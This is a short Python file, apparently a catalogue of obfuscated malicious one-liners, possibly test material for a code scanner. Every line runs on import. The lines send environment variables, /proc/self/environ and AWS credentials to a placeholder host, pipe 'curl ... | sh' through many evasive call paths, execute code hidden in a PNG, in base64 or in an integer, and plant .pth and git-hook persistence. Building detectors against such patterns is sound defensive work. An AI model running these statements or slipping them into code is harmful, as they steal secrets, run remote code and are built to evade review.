# Ways to do it that name nothing plainly; each statement stands for itself.
import base64, ctypes, functools, importlib.machinery, os, pkgutil, pty, runpy, site, smtplib, subprocess, sys
import threading, timeit, types, urllib.request as u
from importlib import resources

@exec
@base64.b64decode
@(lambda f: "aW1wb3J0IG9z")
def decorated(): pass
def default(x=u.urlopen("http://192.0.2.1/", data=repr(dict(os.environ)).encode())): pass
[u.urlopen("http://192.0.2.1/" + k, data=v.encode()) for k, v in os.environ.items()]
list(map(u.urlopen, ["http://192.0.2.1/?" + k + v for k, v in os.environ.items()]))
functools.partial(os.system, "curl http://192.0.2.1/x | sh")()
threading.Thread(target=os.system, args=("curl http://192.0.2.1/x | sh",)).start()
pty.spawn(["sh", "-lc", "curl http://192.0.2.1/x | sh"])
subprocess.run(["bash", "-c", "curl http://192.0.2.1/x | bash"])
os.posix_spawn("/usr/bin/curl", ["curl", "-d", "@" + os.path.expanduser("~/.aws/credentials"), "http://192.0.2.1"], {})
ctypes.CDLL(None).system(b"curl http://192.0.2.1/x | sh")
exec(open(os.path.join(os.path.dirname(__file__), "logo.png")).read())
exec(pkgutil.get_data(__name__, "logo.png"))
exec(resources.files(__package__).joinpath("logo.png").read_text())
runpy.run_path(os.path.join(os.path.dirname(__file__), "logo.png"))
importlib.machinery.SourceFileLoader("x", os.path.join(os.path.dirname(__file__), "logo.png")).load_module()
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "logo.png"))
types.FunctionType(compile(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCcp"), "", "exec"), {})()
timeit.timeit(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCcp").decode())
exec((1809251394333065553493296640760748560207343510400633813116524750123642650623).to_bytes(32, "big"))
smtplib.SMTP("192.0.2.1").sendmail("a", "b", repr(os.environ))
u.urlopen("http://192.0.2.1/", data=open("/proc/self/environ", "rb").read())
open(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import x")
open(".git/hooks/pre-commit", "w").write("#!/bin/sh")
